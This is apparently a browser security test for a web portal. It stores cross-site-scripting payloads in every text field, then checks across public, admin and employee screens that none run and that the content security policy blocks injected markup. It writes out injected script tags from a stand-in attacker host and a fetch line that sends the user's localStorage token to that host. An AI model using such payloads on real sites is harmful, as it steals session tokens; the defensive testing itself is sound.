/** Hostile text in every text field, on every screen, in a real browser: nothing runs, no token is read (SEC13). */
import { type Browser, type BrowserContext, chromium, type Page } from '@playwright/test';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Role } from '#contract/wire/access.ts';
import { builtPages } from '#server/platform/web/page-sources.ts';
import { endpointsWithText, fieldsOfBody, textFields } from '#tests/fixtures/payload-specs.ts';
import { endpointOf, injectOptions } from '#tests/fixtures/requests.ts';
import { fill } from '#tests/fixtures/sample-bodies.ts';
import { conversation, validRequest } from '#tests/fixtures/valid-requests.ts';
import { xssPayloads } from '#tests/fixtures/xss-payloads.ts';
import { startApp, type TestApp, type TestPerson } from '#tests/harness/app.ts';
import { isFull } from '#tests/harness/is-full.ts';
import { until } from '#tests/harness/until.ts';
import { findChromium, findHeadlessShell } from '../../scripts/chromium.ts';
import { pageAt, pages } from '../../web/portal/pages.ts';

const publicPages = ['/', '/careers', '/careers/1', '/careers/1/apply', '/testimonials'];

/** Requests per endpoint: in the full run each field gets each payload, otherwise the fields share them. */
const rounds = isFull ? xssPayloads.length : 1;

let t: TestApp;
let browser: Browser;
let origin: string;
/** Fields with payloads. */
let stored = 0;

beforeAll(async () => {
  t = await startApp('sqlite', { pages: builtPages() });
  origin = await t.app.listen({ host: '127.0.0.1', port: 0 });
  const isRoot = process.getuid?.() === 0;
  browser = await chromium.launch({
    executablePath: findHeadlessShell() ?? findChromium(),
    args: ['--js-flags=--no-opt,--no-maglev', ...(isRoot ? ['--no-sandbox'] : [])],
  });
  stored = await fillEverything();
});
afterAll(async () => {
  await browser?.close();
  await t?.close();
});

/** Stores payloads in each text field of each endpoint. */
async function fillEverything(): Promise<number> {
  let count = 0;
  // Signs nobody in, and a closed door shows no text.
  const skipped = ['login', 'confirmTotp', 'subscribePush', 'unsubscribePush'];
  for (const name of endpointsWithText.filter((one) => !skipped.includes(one))) {
    const fields = Object.entries(textFields(fieldsOfBody(name)));
    for (let round = 0; round < rounds; round += 1) {
      const typed = fields.map(([key, spec], at) => {
        const payload = xssPayloads[(round * fields.length + at) % xssPayloads.length] ?? '';
        const text = key === 'username' ? `${payload.slice(0, 60)} ${name} ${round}` : payload;
        return [key, 'max' in spec ? text.slice(0, spec.max) : text];
      });
      const request = await validRequest(t, name);
      const body = fill(name, request.body ?? {}, Object.fromEntries(typed));
      const response = await t.app.inject(injectOptions({ ...request, body }));
      expect(response.statusCode, `${name}: ${response.body}`).toBe(endpointOf(name).status);
      count += fields.length;
    }
  }
  return count;
}

interface Watched {
  page: Page;
  /** What ran, and what the policy blocked. */
  seen: string[];
}

async function watch(context: BrowserContext): Promise<Watched> {
  const seen: string[] = [];
  const page = await context.newPage();
  await page.exposeFunction('xss', () => {
    seen.push(`ran on ${page.url()}`);
  });
  page.on('dialog', (dialog) => void dialog.dismiss());
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedHTML|TrustedScript/.test(message.text())) {
      seen.push(`blocked on ${page.url()}: ${message.text()}`);
    }
  });
  page.on('request', (request) => {
    if (/\/xss\.(js|css)/.test(request.url())) seen.push(`loaded on ${page.url()}`);
  });
  // A page whose script doesn't come never gets ready.
  page.on('response', (response) => {
    if (response.status() >= 500) seen.push(`${response.status()} for ${response.url()}`);
  });
  return { page, seen };
}

/** Resolves when the browser has failed to load a picture: those that came before it have failed, too. */
const pictureFails = (page: Page) =>
  page.evaluate(
    () =>
      new Promise((resolve) => {
        const picture = new Image();
        picture.onerror = resolve;
        picture.src = '/no-such-picture';
      }),
  );

async function hasLoaded(page: Page): Promise<void> {
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  const loading = page.getByRole('status').filter({ hasText: /^Loading/ });
  await loading.first().waitFor({ state: 'detached' });
}

/** What they open shows more of a record. */
const names = [/^Expand/, /^(View|Edit|Versions|Receipts of|Details)/, /^Open/];

/** Waits for the open page, opens what its buttons in lists open, and returns whether it shows a payload. */
async function look(page: Page): Promise<boolean> {
  await hasLoaded(page);
  for (const name of isFull ? names : [new RegExp(names.map(({ source }) => source).join('|'))]) {
    const buttons = page.getByRole('main').getByRole('button', { name });
    // In one step, because a list that loads again replaces them; also one that something covers.
    const isPressed = await buttons.evaluateAll(([first]) =>
      first?.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })),
    );
    if (isPressed === undefined) continue;
    await pictureFails(page);
    await page.keyboard.press('Escape');
  }
  return (await page.textContent('body'))?.includes('xss()') ?? false;
}

async function open(page: Page, path: string): Promise<void> {
  await page.goto(origin + path);
  // Public pages are shown before their scripts run.
  await page.waitForFunction(() =>
    Object.keys(document.body).some((key) => key.startsWith('__reactProps')),
  );
}

/** Goes to a page from inside the portal, which takes no page load. */
async function move(page: Page, path: string): Promise<void> {
  await page.evaluate((to) => {
    history.pushState(null, '', to);
    dispatchEvent(new PopStateEvent('popstate'));
  }, path);
  const title = pageAt(path)?.title ?? '';
  await page.waitForFunction((text) => document.title.includes(text), `${title} | `);
}

async function contextOf(person: TestPerson | null): Promise<BrowserContext> {
  const context = await browser.newContext({
    viewport: { width: 1280, height: 800 },
    serviceWorkers: 'block',
  });
  context.setDefaultTimeout(120_000);
  if (person) {
    await context.addInitScript((token) => localStorage.setItem('token', token), person.token);
  }
  // Then the portal loads no scripts of other pages in advance.
  await context.addInitScript(() => {
    Object.defineProperty(navigator, 'connection', { value: { saveData: true } });
  });
  return context;
}

/** Pages without a guard explain themselves to people they aren't for. */
const pagesOf = (role: Role) =>
  pages.filter(({ roles }) => roles === 'page' || roles.includes(role)).map(({ href }) => href);

test('hostile text in every field runs on no screen (SEC13)', async () => {
  expect(stored).toBeGreaterThan(xssPayloads.length);
  const driver = await conversation(t, 'employee');
  const screens: [TestPerson | null, string[]][] = [
    [null, publicPages],
    [t.admin, [`/chat?user=${driver.userId}`, ...pagesOf('admin')]],
    // In a usual run only what the office wrote for them.
    [t.employee, isFull ? pagesOf('employee') : ['/notifications', '/chat', '/training']],
  ];
  const shown: string[] = [];
  for (const [person, paths] of screens) {
    const context = await contextOf(person);
    const { page, seen } = await watch(context);
    for (const [index, path] of paths.entries()) {
      await (index > 0 && person ? move : open)(page, path).catch((error: unknown) => {
        throw new Error(`${path}: ${seen.join() || 'nothing seen'}`, { cause: error });
      });
      if (await look(page)) shown.push(path);
    }
    expect(seen).toEqual([]);
    await context.close();
  }
  expect(new Set(shown).size, `only ${shown.join()} show payloads`).toBeGreaterThan(15);
});

test('the payloads work where HTML is not escaped, and the policy alone stops them (SEC13)', async () => {
  const context = await contextOf(null);
  const page = await context.newPage();
  // Each in a frame of its own, which says that it ran.
  await page.evaluate((payloads) => {
    const ran = new Set<number>();
    Object.assign(window, { ran, xss: () => undefined });
    for (const [index, payload] of payloads.entries()) {
      const frame = document.createElement('iframe');
      frame.srcdoc = `<script>xss = () => parent.ran.add(${index})</script><main>${payload}</main>`;
      document.body.append(frame);
    }
  }, xssPayloads);
  await page.waitForFunction(() => (window as unknown as { ran: Set<number> }).ran.size > 20);
  await context.close();
  for (const path of ['/about', '/portal']) await expectBlocked(path);
});

/** What a page would do with markup of an attacker: scripts in it and from elsewhere, before and after it has loaded. */
const foreign = 'https://evil.example/xss.js';
const stolen = 'fetch("https://evil.example/?" + localStorage.token)';
const scripts = `<script>xss()</script><script type="module">xss(); ${stolen}</script>
<script src="${foreign}"></script><script src="//evil.example/xss.js" async></script>
<script type="module" src="${foreign}"></script><script src="data:text/javascript,xss()"></script>
<link rel="modulepreload" href="${foreign}"><img src="x" onerror="xss(); ${stolen.replaceAll('"', "'")}">`;

/** Puts markup into a page, unescaped. */
async function expectBlocked(path: string): Promise<void> {
  const context = await contextOf(t.admin);
  const { page, seen } = await watch(context);
  const asked: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'xss()' });
  });
  await page.route(`**${path}`, async (route) => {
    const response = await route.fetch();
    const markup = `${xssPayloads.join('\n')}${scripts}`;
    const body = (await response.text()).replace('</body>', `${markup}</body>`);
    expect(body).toContain(foreign);
    await route.fulfill({ response, body });
  });
  await page.goto(origin + path);
  // Markup that a script of ours would insert.
  await page.evaluate(
    ([html = '', url = '']) => {
      const add = (fill: (script: HTMLScriptElement) => void) => {
        const script = document.createElement('script');
        try {
          fill(script);
          document.body.append(script);
        } catch {
          // Trusted Types refuse the assignment itself.
        }
      };
      add((script) => {
        script.textContent = 'xss()';
      });
      add((script) => {
        script.src = url;
      });
      try {
        document.body.insertAdjacentHTML('beforeend', html);
      } catch {}
    },
    [scripts, foreign],
  );
  const blocked = () => seen.filter((line) => line.startsWith('blocked')).length;
  await until('the policy blocks', 120_000, () => blocked() > 5);
  await pictureFails(page);
  expect(seen.filter((line) => line.startsWith('ran'))).toEqual([]);
  // Nothing left the browser: no script came, and no token went.
  expect(asked).toEqual([]);
  await context.close();
}
